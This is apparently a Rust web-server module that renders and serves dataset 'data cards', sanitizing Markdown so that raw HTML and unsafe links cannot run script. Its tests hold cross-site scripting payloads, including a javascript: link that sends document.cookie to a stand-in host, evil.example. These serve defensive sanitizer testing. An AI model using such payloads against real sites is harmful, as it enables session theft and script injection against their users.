//! A run's data card (what `prov card` writes):
//!
//! - `/runs/<run manifest>/card/`: the Hugging Face card (`README.md`) rendered, its front
//!   matter shown as it is, its plots beside it, and links to the card's files and to the
//!   Croissant description;
//! - `/runs/<run manifest>/card/<file>`: one file of the card (`README.md`, `plots/<plot>.svg`
//!   or `.png`, `croissant.json`), exactly as `prov card --out DIR` writes it. Only the names
//!   the card has are served: nothing is read from a path.
//!
//! The Markdown is rendered with `pulldown-cmark`, its raw HTML shown as text, never passed
//! through. Cards are kept for the server's life (a few, the latest), since a recorded run's
//! card does not change.

use std::collections::BTreeMap;
use std::sync::{Arc, Mutex};

use axum::extract::{Path, State};
use axum::http::{StatusCode, header};
use axum::response::{IntoResponse, Response};
use minijinja::context;
use prov_card::{CardFile, CardOptions, Format};
use prov_store::Digest;

use crate::AppState;
use crate::pages::{PageError, error_page, render, run_of, with_store};

/// How many runs' cards are kept.
const KEPT: usize = 8;

/// The cards made so far (both formats of a run), and the lock one is made under: requests
/// for a card not yet made wait for the one being made instead of each making it again.
#[derive(Default)]
pub struct Cards {
    made: Mutex<BTreeMap<Digest, Arc<Vec<CardFile>>>>,
    making: tokio::sync::Mutex<()>,
}

/// The card's files of the run `manifest`: the Hugging Face card and its plots, then the
/// Croissant description, made once.
async fn files(state: &Arc<AppState>, manifest: &str) -> Result<(Digest, String, Arc<Vec<CardFile>>), PageError> {
    let run = run_of(state, manifest).await?;
    let (digest, recipe) = (run.manifest, run.recipe().to_owned());
    let kept = || state.cards.made.lock().ok().and_then(|c| c.get(&digest).cloned());
    if let Some(f) = kept() {
        return Ok((digest, recipe, f));
    }
    let _making = state.cards.making.lock().await;
    if let Some(f) = kept() {
        return Ok((digest, recipe, f));
    }
    let made = with_store(state, move |store| {
        let mut all = Vec::new();
        for format in [Format::Hf, Format::Croissant] {
            let options = CardOptions { format, top_languages: 25, with_data: false, dataset: None };
            let files = prov_card::card_files(store, &digest, &options).map_err(|e| {
                if e.is_integrity_failure() {
                    PageError::damaged(e)
                } else {
                    PageError(StatusCode::UNPROCESSABLE_ENTITY, e.to_string())
                }
            })?;
            all.extend(files);
        }
        Ok(Arc::new(all))
    })
    .await?;
    if let Ok(mut cards) = state.cards.made.lock() {
        if cards.len() >= KEPT {
            let first = cards.keys().next().copied();
            if let Some(k) = first {
                cards.remove(&k);
            }
        }
        cards.insert(digest, made.clone());
    }
    Ok((digest, recipe, made))
}

/// Markdown to HTML, raw HTML in it shown as text.
fn markdown(text: &str) -> String {
    use pulldown_cmark::{CowStr, Event, Options, Parser, Tag, html};
    let parser = Parser::new_ext(text, Options::ENABLE_TABLES).map(|event| match event {
        Event::Html(raw) | Event::InlineHtml(raw) => Event::Text(raw),
        Event::Start(Tag::Link { link_type, dest_url, title, id }) if !allowed_url(&dest_url, false) => {
            Event::Start(Tag::Link { link_type, dest_url: CowStr::Borrowed(""), title, id })
        }
        Event::Start(Tag::Image { link_type, dest_url, title, id }) if !allowed_url(&dest_url, true) => {
            Event::Start(Tag::Image { link_type, dest_url: CowStr::Borrowed(""), title, id })
        }
        other => other,
    });
    let mut out = String::new();
    html::push_html(&mut out, parser);
    out
}

/// Where a link or image of a card may lead: a relative URL (the card's own plots and
/// files), and, for a link, `http` or `https`. The card is built from a run's records, whose
/// strings an author chooses: a `javascript:` or `data:` link would run in the workbench's
/// origin, which serves the reviewers' verdict forms, and an image from another host would
/// load as the page opens. Anything else is rendered with an empty address.
fn allowed_url(url: &str, image: bool) -> bool {
    // Another host without a scheme (`//host/x`), or a backslash a browser reads as `/`.
    if url.starts_with("//") || url.starts_with("\\\\") || url.starts_with("/\\") {
        return false;
    }
    let scheme = url.find([':', '/', '?', '#']).filter(|&i| url.as_bytes()[i] == b':');
    match scheme {
        None => true,
        Some(i) => !image && matches!(url[..i].to_ascii_lowercase().as_str(), "http" | "https"),
    }
}

/// `/runs/<run manifest>/card/`: the card, rendered.
pub async fn card(State(state): State<Arc<AppState>>, Path(manifest): Path<String>) -> Response {
    let (digest, recipe, files) = match files(&state, &manifest).await {
        Ok(x) => x,
        Err(e) => return error_page(&state, e),
    };
    let readme = files.iter().find(|f| f.path == "README.md").map(|f| String::from_utf8_lossy(&f.bytes).into_owned());
    let readme = readme.unwrap_or_default();
    // The front matter (YAML between `---` lines) is metadata: shown as it is, not rendered.
    let (front, body) = match readme.strip_prefix("---\n").and_then(|r| r.split_once("\n---\n")) {
        Some((front, body)) => (Some(front.to_owned()), body.to_owned()),
        None => (None, readme.clone()),
    };
    let listed: Vec<(String, usize)> = files.iter().map(|f| (f.path.clone(), f.bytes.len())).collect();
    render(
        &state,
        "card.html",
        context! {
            title => format!("Data card of {recipe}"), recipe, manifest => digest.to_string(),
            front, body => minijinja::Value::from_safe_string(markdown(&body)), files => listed,
        },
    )
}

/// `/runs/<run manifest>/card/<file>`: one file of the card.
pub async fn file(State(state): State<Arc<AppState>>, Path((manifest, name)): Path<(String, String)>) -> Response {
    let (_, _, files) = match files(&state, &manifest).await {
        Ok(x) => x,
        Err(e) => return error_page(&state, e),
    };
    let Some(f) = files.iter().find(|f| f.path == name) else {
        return error_page(&state, PageError(StatusCode::NOT_FOUND, "the card has no file of that name".into()));
    };
    let kind = match name.rsplit('.').next() {
        Some("svg") => "image/svg+xml",
        Some("png") => "image/png",
        Some("json") => "application/ld+json",
        _ => "text/markdown; charset=utf-8",
    };
    ([(header::CONTENT_TYPE, kind)], f.bytes.clone()).into_response()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn raw_html_in_a_card_is_shown_not_run() {
        let html = markdown("# Card\n\n<script>alert(1)</script>\n\ntext <b onclick=x>bold</b>\n");
        assert!(!html.contains("<script>") && !html.contains("<b onclick"), "{html}");
        assert!(html.contains("&lt;script&gt;") && html.contains("<h1>Card</h1>"), "{html}");
    }

    /// A link a record's string writes into the card (a review of the day's fixes put one in
    /// a source's `retrieved`) cannot run script in the workbench or load another host's
    /// image; the card's own plots and web links stay.
    #[test]
    fn links_lead_only_to_the_card_or_the_web() {
        let html = markdown(
            "[a](javascript:fetch('//evil.example/?'+document.cookie)) [b](JaVaScRiPt:x) [c](data:text/html,x) \
             [d](//evil.example/x) ![e](https://evil.example/pixel.png) ![f](plots/funnel.svg) \
             [g](https://spdx.org/licenses/MIT.html) [h](#manifests)\n",
        );
        for gone in ["javascript", "JaVaScRiPt", "data:", "evil.example"] {
            assert!(!html.contains(gone), "{gone}: {html}");
        }
        for kept in ["src=\"plots/funnel.svg\"", "href=\"https://spdx.org/licenses/MIT.html\"", "href=\"#manifests\""] {
            assert!(html.contains(kept), "{kept}: {html}");
        }
    }
}
